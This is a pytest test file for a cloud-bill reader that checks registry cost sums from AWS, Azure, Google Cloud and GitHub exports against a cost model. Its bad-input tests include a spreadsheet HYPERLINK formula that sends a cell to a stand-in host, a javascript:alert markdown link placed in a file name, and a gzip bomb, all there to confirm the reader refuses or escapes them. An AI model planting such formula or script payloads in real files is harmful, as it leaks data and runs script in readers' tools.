"""Check it against my bill (issue 27): each documented bill shape read into per-component sums that
match totals worked out by hand from the fixture rows, the EKS team's month held against the model,
the inputs a bill measures, and every kind of bad file refused with its name and what is wrong."""

import gzip
import json
from pathlib import Path

import pytest
import yaml

from lib import bill, cli
from lib.bill import reader, stream
from lib.core.errors import InputError
from lib.inputs import pricebook
from lib.inputs.workload import DEFAULT
from tests.conftest import EKS_TEAM

FIX = Path(__file__).resolve().parent / "fixtures" / "bill"
BOOK = pricebook.load()
# the EKS team as the preset has it: 90 % of pulls in the region, 10 % from another region
EKS = DEFAULT.replace(**EKS_TEAM, same_region_share=0.9, cross_region_share=0.1, internet_share=0.0)


def read(*names, **kw):
    return bill.read(bill.inputs_from_paths([FIX / n for n in names]), **kw)


def rows(c):
    return {r.kind: r for r in c.rows}


def test_the_eks_teams_cur_month_matches_the_model_within_the_month_length():
    b = read("eks-cur2-2026-11.csv")
    (f,) = b.files
    # 30 days x 7 rows + 1 tax row; kept: storage, NAT hours, NAT bytes, inter-region out, EC2 BoxUsage per day
    assert (f.format, f.rows, f.kept, f.other_types, f.other_cost) == ("AWS CUR 2.0", 211, 150, 1, 14.4)
    assert b.hours == 720 and b.nat_gateways == 1  # November, one NAT gateway resource
    c = bill.compare(b, EKS, BOOK, {"nat": 1.0})
    r = rows(c)
    # storage: 30 x 48 GB-month = 1,440 at $0.10 = $144.00; the model: 40 repos x 1.2 GB x 30 versions = 1,440 GB
    assert r["storage"].bill_quantity == pytest.approx(1440) and r["storage"].bill_cost == pytest.approx(144.00)
    assert r["storage"].model_cost == pytest.approx(144.00) and r["storage"].causes == ()
    # inter-region: 30 x 200 GB at $0.02 = $120.00; the model: 50,000 pulls x 1.2 GB x 10 % = 6,000 GB
    assert r["inter_region"].bill_cost == pytest.approx(120.00) and r["inter_region"].model_cost == pytest.approx(120)
    # NAT bytes: 30 x 2,000 GB at $0.045 = $2,700; the model: every pull through the NAT, 60,000 GB
    assert r["nat_gb"].bill_quantity == pytest.approx(60_000) and r["nat_gb"].bill_cost == pytest.approx(2700)
    assert r["nat_gb"].model_cost == pytest.approx(2700)
    # NAT hours: 720 h x $0.045 = $32.40 against the model's 730 h = $32.85: 10 h x $0.045 = 45 cents, the month
    assert r["nat_hours"].bill_cost == pytest.approx(32.40) and r["nat_hours"].model_cost == pytest.approx(32.85)
    assert r["nat_hours"].difference == pytest.approx(-0.45) and r["nat_hours"].causes == ("month_length",)
    assert set(r) == {"storage", "inter_region", "nat_hours", "nat_gb"}
    assert c.bill_total == pytest.approx(2996.40) and c.model_total == pytest.approx(2996.85)
    assert [g.usage for g in c.related] == ["USE1-BoxUsage:m5.xlarge"]  # 30 x $13.824 = $414.72, listed only
    assert c.related[0].cost == pytest.approx(414.72)


def test_the_bill_measures_the_eks_teams_inputs():
    c = bill.compare(read("eks-cur2-2026-11.csv"), DEFAULT.replace(**EKS_TEAM), BOOK, {"nat": 1.0})
    # 1,440 GB / (40 x 1.2 GB) = 30 versions; 60,000 GB through the NAT / 1.2 GB = 50,000 pulls, of which the
    # 6,000 GB sent to another region are 10 %
    assert c.values() == {
        "region": "us-east-1",
        "network": "nat",
        "nat_gateways": 1,
        "versions_kept": 30,
        "pulls_per_month": 50_000,
        "same_region_share": 0.9,
        "cross_region_share": 0.1,
        "internet_share": 0.0,
    }


def test_a_shared_nat_is_never_counted_until_a_share_is_set():
    b = read("eks-cur2-2026-11.csv")
    r = rows(bill.compare(b, EKS, BOOK))
    assert r["nat_gb"].bill_cost == 0 and r["nat_gb"].bill_total_cost == pytest.approx(2700)
    assert r["nat_gb"].causes == ("shared_unset",) and r["nat_hours"].causes == ("shared_unset",)
    c = bill.compare(b, EKS, BOOK)
    assert c.unattributed == pytest.approx(2732.40)  # $2,700 + $32.40 not counted
    assert "pulls_per_month" not in c.values()  # the NAT bytes are not the registry's until a share is set
    half = rows(bill.compare(b, EKS, BOOK, {"nat": 0.5}))
    assert half["nat_gb"].bill_cost == pytest.approx(1350) and "shared" in half["nat_gb"].causes


def test_focus_from_aws_reads_the_same_month():
    b = read("focus-aws-eks-2026-11.csv")
    (f,) = b.files
    assert (f.format, f.rows, f.kept, f.other_types) == ("FOCUS", 9, 8, 1)
    r = rows(bill.compare(b, EKS, BOOK, {"nat": 1.0}))
    # two half-month rows each: 2 x 720 GB-month, 2 x 360 h, 2 x 30,000 GB, 2 x 3,000 GB
    assert r["storage"].bill_cost == pytest.approx(144.0) and r["nat_hours"].bill_quantity == pytest.approx(720)
    assert r["nat_gb"].bill_cost == pytest.approx(2700) and r["inter_region"].bill_cost == pytest.approx(120)
    assert r["nat_hours"].causes == ("month_length",)


def test_legacy_cur_gzip_with_a_shared_nat_and_ec2_transfer():
    b = read("seoul-legacy-cur-2026-10.csv.gz")
    (f,) = b.files
    # 9 rows: ECR storage x2, NAT hours, NAT bytes, EC2 out, EC2 regional, S3 kept; RDS not; the credit counted
    assert (f.format, f.rows, f.kept, f.other_types, f.other_cost) == ("AWS CUR (legacy)", 9, 7, 1, -10.0)
    assert b.hours == 744  # October
    c = bill.compare(b, EKS.replace(region="ap-northeast-2"), BOOK, {"nat": 0.5, "transfer": 0.2})
    r = rows(c)
    # storage: 200 GB-month at $0.10 plus 0.5 GB-month free = 200.5 GB-month, $20.00
    assert r["storage"].bill_quantity == pytest.approx(200.5) and r["storage"].bill_cost == pytest.approx(20.0)
    assert r["storage"].free_quantity == pytest.approx(0.5) and "free_tier" in r["storage"].causes
    # NAT: half of 744 h x $0.059 = $21.948; half of 10,000 GB x $0.059 = $295.00
    assert r["nat_hours"].bill_cost == pytest.approx(21.948) and r["nat_gb"].bill_cost == pytest.approx(295.0)
    # EC2 out to the internet: 20 % of 1,000 GB x $0.126 = $25.20; between zones 20 % of 500 GB x $0.01 = $1.00
    assert r["internet_out"].bill_quantity == pytest.approx(200) and r["internet_out"].bill_cost == pytest.approx(25.2)
    assert r["regional"].bill_cost == pytest.approx(1.0) and "not_modelled" in r["regional"].causes
    # the rest of the shared lines: 21.948 + 295 + 100.80 + 4.00
    assert c.unattributed == pytest.approx(421.748)
    assert [g.usage for g in c.related] == ["APN2-TimedStorage-ByteHrs"] and c.related[0].service == "AmazonS3"
    assert c.values()["region"] == "ap-northeast-2"


def test_focus_from_azure_and_google_cloud():
    az = bill.compare(read("focus-azure-acr-2026-11.csv"), DEFAULT, BOOK, {"transfer": 0.2})
    assert az.registry == "acr"
    r = rows(az)
    # a Standard registry unit a day for 30 days at $0.667 = $20.01; 150 GB-month stored at $0.10 = $15.00
    assert r["plan"].bill_quantity == 30 and r["plan"].bill_cost == pytest.approx(20.01)
    assert r["storage"].bill_quantity == 150 and r["storage"].bill_cost == pytest.approx(15.0)
    # egress is billed under Bandwidth, not the registry: shared, 20 % of 200 GB x $0.087 = $3.48
    assert r["internet_out"].shared and r["internet_out"].bill_cost == pytest.approx(3.48)
    gcp = bill.compare(read("focus-gcp-gar-2026-11.csv"), DEFAULT, BOOK)
    assert gcp.registry == "gar"
    r = rows(gcp)
    # 100.5 GiB-month x 1.073741824 = 107.91 GB-month for $10.74; 50 GiB = 53.69 GB out for $6.44, the registry's own
    assert r["storage"].bill_quantity == pytest.approx(107.911, abs=1e-3) and r["storage"].bill_cost == 10.74
    assert r["internet_out"].bill_quantity == pytest.approx(53.687, abs=1e-3) and not r["internet_out"].shared


def test_githubs_usage_reports_old_and_new():
    b = read("github-usage-2026-10.csv")
    assert (b.files[0].rows, b.files[0].kept, b.hours) == (63, 32, 744)
    c = bill.compare(b, DEFAULT.replace(image_size_mb=500), BOOK)
    r = rows(c)
    # 31 days x 240 GB-hours = 7,440 GB-hours / 744 h = 10 GB on average; net 31 x $0.064 = $1.984
    assert r["storage"].bill_quantity == pytest.approx(10) and r["storage"].bill_cost == pytest.approx(1.984)
    # 40 GB of Packages data transfer, net $15.00 after the $5.00 discount; 40 GB / 0.5 GB a pull = 80 pulls
    assert r["internet_out"].bill_quantity == 40 and r["internet_out"].bill_cost == pytest.approx(15.0)
    assert c.values() == {"versions_kept": 20, "pulls_per_month": 80.0}  # 10 GB / 0.5 GB an image
    old = read("github-usage-old-2026-09.csv")
    assert (old.files[0].format, old.files[0].rows, old.files[0].kept) == ("GitHub usage report (older format)", 32, 31)
    r = rows(bill.compare(old, DEFAULT, BOOK, {"storage": 0.5}))
    # Shared Storage: 30 days x 0.2 GB-day = 6 GB-days / 30 days = 0.2 GB-month, $0.048; half counted
    assert r["storage"].bill_total_quantity == pytest.approx(0.2) and r["storage"].bill_cost == pytest.approx(0.024)
    # Data Transfer: 12 GB x $0.50 x multiplier 1.0 = $6.00
    assert r["internet_out"].bill_cost == pytest.approx(6.0)


def test_parquet_reads_the_same_as_csv(tmp_path):
    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    table = pacsv.read_csv(
        FIX / "eks-cur2-2026-11.csv",
        convert_options=pacsv.ConvertOptions(column_types={"line_item_usage_amount": "float64"}),
    )
    pq.write_table(table, tmp_path / "cur.parquet")
    b = bill.read(bill.inputs_from_paths([tmp_path / "cur.parquet"]))
    r = rows(bill.compare(b, EKS, BOOK, {"nat": 1.0}))
    assert b.files[0].rows == 211 and b.files[0].kept == 150
    assert r["nat_gb"].bill_cost == pytest.approx(2700) and r["storage"].bill_quantity == pytest.approx(1440)


# ---- bad input: the file named, what is wrong said ------------------------------------------------


def refused(tmp_path, name, data) -> str:
    p = tmp_path / name
    p.write_bytes(data)
    with pytest.raises(InputError) as e:
        bill.read([bill.Input(name, path=p)])
    assert name in str(e.value)
    return str(e.value)


def test_a_file_that_is_not_a_bill(tmp_path):
    assert "not a bill export" in refused(tmp_path, "scenario.csv", b"name,repositories\nx,3\n")
    assert "not UTF-8" in refused(tmp_path, "picture.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    assert "empty" in refused(tmp_path, "empty.csv", b"")


def test_focus_of_another_version(tmp_path):
    header = b"BilledCost,BillingCurrency,ChargePeriodStart,ChargePeriodEnd,ChargeType,UsageQuantity,UsageUnit,"
    header += b"ProviderName\n"
    assert "before 1.0" in refused(tmp_path, "focus-0.5.csv", header + b"1,USD,2024-01-01,2024-02-01,Usage,1,GB,AWS\n")


def test_a_truncated_gzip(tmp_path):
    data = (FIX / "seoul-legacy-cur-2026-10.csv.gz").read_bytes()
    assert "cut short" in refused(tmp_path, "cur.csv.gz", data[: len(data) - 30])


def test_a_formula_in_a_cell(tmp_path):
    text = (FIX / "eks-cur2-2026-11.csv").read_text()
    bad = text.replace(
        "arn:aws:ec2:us-east-1:123456789012:natgateway/nat-0a1b2c3d4e5f60718", '=HYPERLINK("http://x.example/?"&A1)', 1
    )
    msg = refused(tmp_path, "cur.csv", bad.encode())
    assert "formula" in msg and "line 3" in msg and "line_item_resource_id" in msg


def test_rows_in_another_currency(tmp_path):
    text = (FIX / "focus-aws-eks-2026-11.csv").read_text().replace(",USD,", ",EUR,", 1)
    msg = refused(tmp_path, "focus.csv", text.encode())
    assert "EUR" in msg and "USD" in msg and "line 2" in msg


def test_a_2_gb_file_is_refused_before_it_is_read(tmp_path):
    p = tmp_path / "huge.csv"
    with open(p, "wb") as f:
        f.truncate(2_000_000_000)  # sparse: no disk used
    with pytest.raises(InputError, match=r"huge.csv: 2,000 MB is over the 1,000 MB limit"):
        bill.read([bill.Input("huge.csv", path=p)])


def test_a_line_that_never_ends_and_a_gzip_bomb(tmp_path, monkeypatch):
    assert "longer than" in refused(tmp_path, "one-line.csv", b"a," * (stream.MAX_LINE_CHARS // 2 + 10))
    p = tmp_path / "bomb.csv.gz"
    p.write_bytes(gzip.compress((FIX / "eks-cur2-2026-11.csv").read_bytes()))
    monkeypatch.setattr(stream, "MAX_TEXT_BYTES", 10_000)
    with pytest.raises(InputError, match="expands to more than"):
        with stream.csv_rows(bill.Input("bomb.csv.gz", path=p), text_limit=10_000) as rs:
            for _ in rs:
                pass


def test_a_cut_short_csv_line_and_a_bad_number(tmp_path):
    text = (FIX / "eks-cur2-2026-11.csv").read_text()
    cut = text.index(",USD,", 3000) + 2  # in the middle of a row: its last cells missing
    assert "cut short" in refused(tmp_path, "cut.csv", text[:cut].encode())
    bad = text.replace(",2000,0,USD,", ",lots,0,USD,", 1)
    assert "line_item_usage_amount is `lots`, not a number" in refused(tmp_path, "nan.csv", bad.encode())


def test_a_damaged_parquet_file(tmp_path):
    assert "not a readable Parquet file" in refused(tmp_path, "cur.parquet", b"PAR1" + b"\0" * 100)


def test_many_distinct_lines_are_bounded(tmp_path, monkeypatch):
    monkeypatch.setattr(reader, "MAX_GROUPS", 3)
    msg = refused(tmp_path, "cur.csv", (FIX / "eks-cur2-2026-11.csv").read_bytes())
    assert "more than 3 different registry lines" in msg


# ---- the command line ---------------------------------------------------------------------


def test_cli_report_json_and_yaml(capsys):
    f = str(FIX / "eks-cur2-2026-11.csv")
    assert cli.main(["bill", f, "--scenario", "data/presets/eks-private.yaml", "--share", "nat=100"]) == 0
    out = capsys.readouterr().out
    assert "211 rows read, 150 kept" in out and "$2,996.85" in out and "$2,996.40" in out and "−$0.45" in out
    assert cli.main(["bill", f, "--format", "json", "--share", "nat=100"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["totals"]["bill"] == pytest.approx(2996.40) and doc["shares"] == {"nat": 1.0}
    assert doc["period"]["hours"] == 720
    assert cli.main(["bill", f, "--format", "yaml", "--scenario", "data/presets/eks-private.yaml"]) == 0
    applied = yaml.safe_load(capsys.readouterr().out)
    assert applied["versions_kept"] == 30 and applied["network"] == "nat"
    assert applied["pulls_per_month"] == 50_000  # the preset's: the shared NAT measures nothing without a share


def test_cli_bad_input_is_one_line_and_status_2(capsys, tmp_path):
    (tmp_path / "x.csv").write_text("a,b\n1,2\n")
    assert cli.main(["bill", str(tmp_path / "x.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "x.csv: not a bill export" in err and err.count("\n") == 1
    assert cli.main(["bill", str(FIX / "eks-cur2-2026-11.csv"), "--share", "nat=150"]) == 2
    assert "percentage from 0 to 100" in capsys.readouterr().err


def test_the_adr_section_escapes_what_the_file_says(tmp_path):
    from lib.bill import report

    text = (FIX / "eks-cur2-2026-11.csv").read_text()
    p = tmp_path / "[x](javascript:alert(1)) | # h.csv"
    p.write_text(text)
    b = bill.read([bill.Input(p.name, path=p)])
    md = report.markdown(b, bill.compare(b, EKS, BOOK, {"nat": 1.0}), {"nat": 1.0})
    assert md.startswith("## Today’s bill against the model\n")
    assert "\\[x\\]\\(javascript\\:alert\\(1\\)\\) \\| \\# h\\.csv" in md  # no link, no extra cell, no heading
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert all(line.count(" | ") == 4 for line in rows)  # five cells on every row
    assert "| NAT gateway hours | 730\\.00 hour = \\$32\\.85 | 720\\.00 hour = \\$32\\.40 | −\\$0\\.45 |" in md


# causes of a difference, each case worked by hand: a line of 100 GB at $0.10 in the model (a 730-hour month)
@pytest.mark.parametrize(
    ("kind", "q_bill", "c_bill", "free", "hours", "expected"),
    [
        ("storage", 100, 12.0, 0, 730, ("price",)),  # $0.12 a GB billed against $0.10
        ("storage", 110, 12.0, 10, 730, ("free_tier",)),  # 100 GB paid; the free tier explains the price
        ("storage", 110, 10.0, 10, 730, ("free_tier",)),  # 10 GB free, 100 paid at $0.10
        ("storage", 150, 15.0, 0, 730, ("quantity",)),  # 50 GB more, at the same $0.10
        ("nat_hours", 102, 10.2, 0, 744, ("month_length",)),  # 100 x 744 / 730 = 101.9 hours: a 31-day month
        ("nat_hours", 150, 15.0, 0, 744, ("quantity",)),  # more than the month's length accounts for
    ],
)
def test_a_difference_is_traced_to_its_cause(kind, q_bill, c_bill, free, hours, expected):
    from lib.bill.causes import causes

    got = causes(kind, 100, 10.0, q_bill, c_bill, free, False, None, hours, BOOK, unknown_unit=False)
    assert got == expected


def test_a_price_the_model_lacks_and_an_unknown_unit_are_named():
    from lib.bill.causes import causes

    # the model prices 100 GB at $0 where the bill charges $5
    assert causes("storage", 100, 0.0, 100, 5.0, 0, False, None, 730, BOOK, unknown_unit=False) == ("price_missing",)
    assert causes("storage", 100, 10.0, 100, 12.0, 0, False, None, 730, BOOK, unknown_unit=True) == ("unit", "price")
    # a line the model does not have at all
    assert causes("storage", 0, 0.0, 3, 1.0, 0, False, None, 730, BOOK, unknown_unit=False) == ("not_modelled",)
